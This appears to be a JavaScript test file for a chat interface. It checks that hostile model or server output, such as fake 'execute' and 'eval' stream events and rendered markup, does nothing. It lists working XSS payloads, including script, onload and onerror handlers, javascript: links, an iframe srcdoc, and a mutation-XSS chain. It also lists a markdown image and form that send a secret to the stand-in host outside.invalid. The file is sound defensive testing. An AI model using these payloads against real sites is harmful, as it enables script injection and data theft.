// A model, or a server behind one, that sends what no answer holds: events to be executed, scripts, pictures, frames.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startMock } from '../mock/server.mjs';
import { answered, ask, shut, withPage } from '../support/page.mjs';

let mock;
before(async () => {
  mock = await startMock({ furnished: true, delay_ms: 2 });
});
after(async () => {
  await shut();
  mock.close();
});

const CODE = 'globalThis.taken = true; localStorage.setItem("taken", "1")';
const PAYLOADS = [
  `<script>${CODE}</script>`,
  `<svg onload="${CODE.replaceAll('"', "'")}"><script>${CODE}</script></svg>`,
  '<iframe srcdoc="<script>parent.taken = true</script>"></iframe>',
  '<a href="javascript:taken=true">press</a> [press](javascript:taken=true) ![x](javascript:taken=true)',
  '<img src=x onerror="taken=true"> ![seen](https://outside.invalid/seen.png?secret=1)',
  '<math><mtext><table><mglyph><style><img src=x onerror="taken=true"></style></mglyph></table></mtext></math>',
  '<form action="https://outside.invalid"><button>send</button></form><meta http-equiv="refresh" content="0;url=https://outside.invalid">',
  '```html\n<script>taken=true</script>\n```',
];

test('events and markup of a hostile answer do nothing', () =>
  withPage(mock.base, {}, async (page) => {
    await page.route('**/turns', async (route) => {
      const response = await route.fetch();
      const events = ['execute', 'eval', 'chat:action', 'message'].map((name) => `event: ${name}\ndata: ${JSON.stringify({ code: CODE, type: 'execute', html: `<script>${CODE}</script>` })}\n\n`);
      const body = await response.text();
      await route.fulfill({ response, body: events.join('') + body });
    });
    for (const payload of PAYLOADS) {
      await ask(page, payload); // the answer says it back
      await answered(page);
    }
    assert.deepEqual(await page.evaluate(() => [globalThis.taken, localStorage.getItem('taken')]), [undefined, null]);
    const made = await page.locator('.prose').locator('script, svg script, iframe, form, meta, img, [onerror], [onload], a[href^="javascript"]').count();
    assert.equal(made, 0);
  }));
